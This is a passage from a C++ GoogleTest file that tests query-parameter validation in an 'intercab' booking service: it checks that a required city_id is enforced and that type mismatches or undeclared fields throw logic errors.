  const Query schema{{"city_id", String().min_length(1)}};
  EXPECT_EQ(invalid_params({}, schema), (Errors{{"city_id", "is required"}}));
  EXPECT_EQ(validate_query({{"city_id", "1277333"}}, schema).get<std::string>("city_id"), "1277333");
}

TEST(ValidateQuery, HandlerMistakesAreLogicErrors) {
  const auto query = validate_query({}, kListBookingsQuery);
  EXPECT_THROW((void)query.get<std::string>("limit"), std::logic_error);   // declared as an integer
  EXPECT_THROW((void)query.get<std::string>("cursor"), std::logic_error);  // optional and absent: use find
  EXPECT_THROW((void)query.get<std::int64_t>("undeclared"), std::logic_error);
}

}  // namespace
}  // namespace intercab::validate
